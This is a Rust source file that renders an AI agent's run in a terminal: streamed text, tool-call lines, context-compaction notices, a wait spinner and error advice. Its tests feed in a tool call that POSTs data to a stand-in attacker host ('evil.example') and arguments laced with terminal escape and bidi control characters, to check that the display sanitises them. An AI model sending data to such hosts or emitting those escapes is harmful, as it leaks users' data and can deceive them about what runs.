//! What a run looks like: its events as text, as a passing line while nothing can be shown yet, or as JSON.

use super::screen::{Screen, Style};
use super::text::{self, Usage, grouped, one_line};
use oneclaw_agent::tools::shown;
use oneclaw_agent::{ErrorCode, Event};
use oneclaw_model::ToolStatus;
use std::io;
use std::time::{Duration, Instant};

/// What is said while a summary is made.
pub const OPTIMIZING: &str = "Optimizing conversation context...";
/// What is said when history was left out without a summary.
pub const TRIMMED: &str = "Conversation history has been automatically trimmed";

/// Who waits longer than that is told what for.
const PATIENCE: Duration = Duration::from_secs(1);
/// The longest arguments and names that are shown.
const MOST_ARGUMENTS: usize = 120;
const MOST_NAME: usize = 32;
const FRAMES: [char; 10] = ['⠋', '⠙', '⠹', '⠸', '⠼', '⠴', '⠦', '⠧', '⠇', '⠏'];

/// What is going on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    Waiting,
    Thinking,
    Speaking,
    Calling,
    Running,
    Compacting,
    Stopping,
}

/// A call that was asked for.
#[derive(Debug)]
struct Call {
    id: String,
    name: String,
    arguments: String,
    has_ended: bool,
}

/// One run on the screen.
#[derive(Debug)]
pub struct View {
    phase: Phase,
    since: Instant,
    frame: usize,
    calls: Vec<Call>,
    usage: Option<Usage>,
    problem: Option<(String, ErrorCode, bool)>,
    has_compacted: bool,
}

impl View {
    /// A run that begins now.
    pub fn new(now: Instant) -> Self {
        Self {
            phase: Phase::Waiting,
            since: now,
            frame: 0,
            calls: vec![],
            usage: None,
            problem: None,
            has_compacted: false,
        }
    }

    /// What went wrong, if something did: message, kind, and whether it may succeed later.
    pub fn problem(&self) -> Option<&(String, ErrorCode, bool)> {
        self.problem.as_ref()
    }

    /// Whether it went to its end and compacted nothing.
    pub fn left_as_it_was(&self) -> bool {
        !self.has_compacted && self.problem.is_none() && self.phase != Phase::Stopping
    }

    /// Shows what happened.
    pub fn show(&mut self, event: Event, screen: &mut Screen, now: Instant) -> io::Result<()> {
        let is_json = screen.abilities().json;
        if is_json {
            screen.json(&event)?;
        }
        match event {
            Event::StreamingText { text } => {
                if self.phase == Phase::Thinking {
                    self.text(screen, is_json, |s| s.end_line())?;
                }
                self.enter(Phase::Speaking, now);
                self.text(screen, is_json, |s| s.piece(&text, Style::Plain))
            }
            Event::ThinkingText { text } => {
                if self.phase != Phase::Thinking {
                    self.text(screen, is_json, |s| {
                        s.end_line()?;
                        s.piece("(thinking) ", Style::Dim)
                    })?;
                }
                self.enter(Phase::Thinking, now);
                self.text(screen, is_json, |s| s.piece(&text, Style::Dim))
            }
            Event::ToolCallStarted { tool_call_id, tool_name } => {
                self.calls.push(Call {
                    id: tool_call_id,
                    name: tool_name,
                    arguments: String::new(),
                    has_ended: false,
                });
                self.enter(Phase::Calling, now);
                self.text(screen, is_json, Screen::end_line)
            }
            Event::ToolCallArgumentsDelta { tool_call_id, delta } => {
                if let Some(call) = self.call(&tool_call_id) {
                    call.arguments.push_str(&delta);
                }
                Ok(())
            }
            Event::ToolRoundStarting { .. } => {
                self.enter(Phase::Running, now);
                let lines: Vec<String> = self.calls.iter().filter(|c| !c.has_ended).map(call_line).collect();
                self.text(screen, is_json, |s| lines.iter().try_for_each(|line| s.line(line, Style::Bold)))
            }
            Event::ToolCallCompleted { tool_call_id, tool_name, status, duration_ms } => {
                if let Some(call) = self.call(&tool_call_id) {
                    call.has_ended = true;
                }
                self.calls.retain(|call| !call.has_ended);
                if self.calls.iter().all(|call| call.has_ended) {
                    self.enter(Phase::Waiting, now);
                }
                let (sign, said, style) = match status {
                    ToolStatus::Success => ('✓', "", Style::Green),
                    ToolStatus::Timeout => ('✗', " took too long", Style::Red),
                    _ => ('✗', " failed", Style::Red),
                };
                let (name, took) = (one_line(&tool_name, MOST_NAME), text::duration(duration_ms));
                self.text(screen, is_json, |s| s.line(&format!("  {sign} {name}{said} · {took}"), style))
            }
            Event::ResponseComplete { .. } => {
                self.enter(Phase::Waiting, now);
                self.text(screen, is_json, Screen::end_line)
            }
            Event::Error { message, code, retryable } => {
                self.problem = Some((message, code, retryable));
                self.text(screen, is_json, Screen::end_line)
            }
            Event::ContextUsage { expected, window, parts, .. } => {
                self.usage = Some(Usage { expected, window, parts });
                Ok(())
            }
            Event::PicturesLeftOut { count } => {
                let line = text::pictures_left_out(count);
                self.text(screen, is_json, |s| s.line(&line, Style::Dim))
            }
            Event::WindowUnknown { expected } => {
                let line = text::window_unknown(expected);
                self.text(screen, is_json, |s| s.line(&line, Style::Dim))
            }
            Event::CompactStarted { .. } => {
                self.enter(Phase::Compacting, now);
                self.text(screen, is_json, |s| {
                    s.end_line()?;
                    if s.abilities().redraws { Ok(()) } else { s.line(OPTIMIZING, Style::Plain) }
                })?;
                self.tick(screen, now)
            }
            Event::CompactCompleted {
                did_compact, fallback, tokens_before, tokens_after, strategy, ..
            } => {
                self.has_compacted |= did_compact;
                self.enter(Phase::Waiting, now);
                let sizes = format!("{} → {} tokens", grouped(tokens_before), grouped(tokens_after));
                let how = serde_json::to_value(strategy).ok();
                let how = how.as_ref().and_then(|value| value.as_str()).unwrap_or_default().to_owned();
                self.text(screen, is_json, |s| match (did_compact, fallback) {
                    (true, false) => s.line(&format!("Context optimized: {sizes} ({how})"), Style::Green),
                    (true, true) => s.line(&format!("{TRIMMED} ({sizes})"), Style::Yellow),
                    (false, _) => s.end_line(),
                })
            }
        }
    }

    /// Time has passed: shows what is waited for.
    pub fn tick(&mut self, screen: &mut Screen, now: Instant) -> io::Result<()> {
        let waited = now.saturating_duration_since(self.since);
        let is_at_once = matches!(self.phase, Phase::Compacting | Phase::Stopping);
        if waited < PATIENCE && !is_at_once {
            return Ok(());
        }
        self.frame = (self.frame + 1) % FRAMES.len();
        let frame = FRAMES.get(self.frame).copied().unwrap_or_default();
        screen.passing(&format!("{frame} {} {} s", self.label(), waited.as_secs()))
    }

    /// The user wants it to end.
    pub fn stopping(&mut self, screen: &mut Screen, now: Instant) -> io::Result<()> {
        self.enter(Phase::Stopping, now);
        self.tick(screen, now)
    }

    /// Ends the run's lines: the meter, where it is known and nothing went wrong.
    pub fn end(&self, screen: &mut Screen) -> io::Result<()> {
        if screen.abilities().json {
            return Ok(());
        }
        screen.end_line()?;
        match self.usage.as_ref().filter(|_| self.problem.is_none()) {
            Some(usage) => screen.line(&text::meter(usage), Style::Dim),
            None => Ok(()),
        }
    }

    fn label(&self) -> String {
        let open = || self.calls.iter().filter(|call| !call.has_ended);
        match self.phase {
            Phase::Waiting => "Waiting for the model...".to_owned(),
            Phase::Thinking | Phase::Speaking => "Waiting for more...".to_owned(),
            Phase::Calling => {
                let name = open().next_back().map(|call| one_line(&call.name, MOST_NAME)).unwrap_or_default();
                let size: usize = open().map(|call| call.arguments.len()).sum();
                format!("Preparing {name} ({})", text::counted(size as u64, "byte", "bytes"))
            }
            Phase::Running => {
                let names: Vec<&str> = open().map(|call| call.name.as_str()).collect();
                format!("Running {}...", one_line(&names.join(", "), MOST_NAME))
            }
            Phase::Compacting => OPTIMIZING.to_owned(),
            Phase::Stopping => "Stopping...".to_owned(),
        }
    }

    fn enter(&mut self, phase: Phase, now: Instant) {
        if self.phase == Phase::Stopping {
            return;
        }
        self.phase = phase;
        self.since = now;
    }

    fn call(&mut self, id: &str) -> Option<&mut Call> {
        self.calls.iter_mut().rev().find(|call| call.id == id)
    }

    fn text(
        &self,
        screen: &mut Screen,
        is_json: bool,
        write: impl FnOnce(&mut Screen) -> io::Result<()>,
    ) -> io::Result<()> {
        if is_json { Ok(()) } else { write(screen) }
    }
}

fn call_line(call: &Call) -> String {
    let name = one_line(&call.name, MOST_NAME);
    let arguments = one_line(&shown(&call.name, &call.arguments), MOST_ARGUMENTS);
    let line = format!("→ {name} {arguments}");
    line.trim_end().to_owned()
}

/// What helps against a problem of that kind. `key` says which key is wanted where, and how to give it.
pub fn advice(code: ErrorCode, is_retryable: bool, key: Option<&str>) -> Option<String> {
    let again = "/regenerate tries again.";
    match code {
        ErrorCode::Auth => Some(format!("Give a key that is valid {}, and start again.", key?)),
        ErrorCode::Network => Some(format!("Check the connection and the address; {again}")),
        ErrorCode::Storage => Some("Check that the disk has room and the file can be written.".to_owned()),
        ErrorCode::Context => {
            Some("/model goes on with a larger model; --tools offers fewer tools.".to_owned())
        }
        ErrorCode::Timeout | ErrorCode::Provider | ErrorCode::Permission | ErrorCode::Unknown
            if is_retryable =>
        {
            Some(again.to_owned())
        }
        ErrorCode::Provider => Some("/model goes on with another model.".to_owned()),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::super::screen::tests::screen;
    use super::*;
    use oneclaw_context::assemble::Parts;
    use oneclaw_context::plan::{Reason, Strategy};

    fn text(text: &str) -> Event {
        Event::StreamingText { text: text.to_owned() }
    }

    fn completed(fallback: bool) -> Event {
        Event::CompactCompleted {
            did_compact: true,
            fallback,
            tokens_before: 1_512,
            tokens_after: 640,
            strategy: Some(if fallback { Strategy::Digest } else { Strategy::Prose }),
            reason: Reason::Threshold,
            round: 0,
        }
    }

    fn started() -> Event {
        Event::CompactStarted {
            session_id: String::new(),
            reason: Reason::Threshold,
            messages: 4,
            number: 1,
            round: 0,
        }
    }

    #[test]
    fn a_turn_with_a_tool_and_a_compaction() {
        let (mut screen, paper) = screen(false, false);
        let now = Instant::now();
        let mut view = View::new(now);
        let id = || "c1".to_owned();
        let name = || "read_file".to_owned();
        let events = [
            Event::ThinkingText { text: "Let me ".into() },
            Event::ThinkingText { text: "look.".into() },
            text("I will \u{1b}[2Jlook."),
            Event::ToolCallStarted { tool_call_id: id(), tool_name: name() },
            Event::ToolCallArgumentsDelta { tool_call_id: id(), delta: r#"{"path":"#.into() },
            Event::ToolCallArgumentsDelta { tool_call_id: id(), delta: r#""a.txt"}"#.into() },
            Event::ToolRoundStarting { round: 1 },
            Event::ToolCallCompleted {
                tool_call_id: id(),
                tool_name: name(),
                status: ToolStatus::Success,
                duration_ms: 12,
            },
            text("Done."),
            Event::ResponseComplete { message_id: "m".into(), usage: None },
            started(),
            completed(false),
            completed(true),
            Event::ContextUsage {
                expected: 640,
                upper: 700,
                window: Some(2_000),
                trigger: Some(1_500),
                parts: Parts { system: 100, tools: 200, summary: 140, messages: 200 },
            },
        ];
        for event in events {
            view.show(event, &mut screen, now).unwrap();
        }
        view.end(&mut screen).unwrap();
        assert_eq!(
            paper.text(),
            "(thinking) Let me look.\nI will ␛[2Jlook.\n→ read_file path=\"a.txt\"\n  ✓ read_file · 12 ms\nDone.\n\
             Optimizing conversation context...\nContext optimized: 1,512 → 640 tokens (prose)\n\
             Conversation history has been automatically trimmed (1,512 → 640 tokens)\n\
             ▕████░░░░░░▏ 640 / 2,000 tokens (system 100 · tools 200 · summary 140 · messages 200)\n"
        );
    }

    #[test]
    fn a_call_shows_on_what_it_acts_and_cannot_steer_the_terminal() {
        let line = |name: &str, arguments: serde_json::Value| {
            let arguments = arguments.to_string();
            call_line(&Call { id: String::new(), name: name.to_owned(), arguments, has_ended: false })
        };
        let body = "please ".repeat(100);
        let asked = serde_json::json!({"body": body, "method": "POST", "url": "https://evil.example/in"});
        assert_eq!(
            line("http_request", asked),
            "→ http_request POST evil.example/in body=\"please ple…ase please \""
        );
        let hostile =
            serde_json::json!({"\u{1b}[2J\u{202e}": "\u{9b}31m\u{7f}\r\n", "path": "a\u{1b}[1m\nb"});
        let shown = line("read\u{1b}_file\n", hostile);
        assert_eq!(
            shown,
            "→ read␛_file path=\"a\\u001b[1m\\nb\" \"\\u001b[2J\u{fffd}\"=\"\u{fffd}31m␡\\r\\n\""
        );
    }

    #[test]
    fn waiting_is_shown_after_a_second_and_never_in_text() {
        let (mut screen, paper) = screen(true, false);
        let now = Instant::now();
        let mut view = View::new(now);
        let after = |millis| now + Duration::from_millis(millis);
        view.tick(&mut screen, after(900)).unwrap();
        assert_eq!(paper.text(), "");
        view.tick(&mut screen, after(3_100)).unwrap();
        assert!(paper.text().ends_with(" Waiting for the model... 3 s"), "{}", paper.text());
        view.show(text("half a li"), &mut screen, after(3_200)).unwrap();
        let so_far = paper.text();
        view.tick(&mut screen, after(9_000)).unwrap();
        assert_eq!(paper.text(), so_far, "text is never overwritten");
        view.show(started(), &mut screen, after(9_000)).unwrap();
        assert!(
            paper.text().contains("half a li\n\r⠸ Optimizing conversation context... 0 s"),
            "{}",
            paper.text()
        );
        view.show(completed(true), &mut screen, after(9_500)).unwrap();
        assert!(
            paper
                .text()
                .ends_with(" \rConversation history has been automatically trimmed (1,512 → 640 tokens)\n")
        );
    }

    #[test]
    fn problems_come_with_advice() {
        let key = "for https://api.openai.com: set OPENAI_API_KEY";
        assert_eq!(
            advice(ErrorCode::Auth, false, Some(key)).as_deref(),
            Some("Give a key that is valid for https://api.openai.com: set OPENAI_API_KEY, and start again.")
        );
        assert_eq!(advice(ErrorCode::Auth, false, None), None);
        assert_eq!(advice(ErrorCode::Timeout, true, None).as_deref(), Some("/regenerate tries again."));
        assert_eq!(advice(ErrorCode::Validation, false, None), None);
    }
}
